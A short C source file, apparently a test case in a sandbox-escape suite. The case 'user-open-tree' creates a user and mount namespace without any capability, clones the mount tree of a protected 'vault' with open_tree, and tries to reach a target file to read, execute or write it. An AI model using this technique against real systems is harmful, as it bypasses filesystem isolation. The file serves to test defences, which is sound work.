/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

#include <sched.h>

/* Without any capability: in a user namespace of one's own the mount tree may be copied, and is read unattached. */
static void inside(void *unused)
{
	int tree;

	(void)unused;
	if (!become_user_root(CLONE_NEWNS))
		return;
	tree = (int)syscall(SYS_open_tree, AT_FDCWD, vault, 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC);
	if (tree < 0) {
		step_failed("open_tree OPEN_TREE_CLONE");
		return;
	}
	reach_at(tree, "target");
	close(tree);
}

static void run(void)
{
	in_child(inside, NULL);
}

ATTACK(.name = "user-open-tree", .goals = READ | EXEC | WRITE, .alert_elsewhere = true)
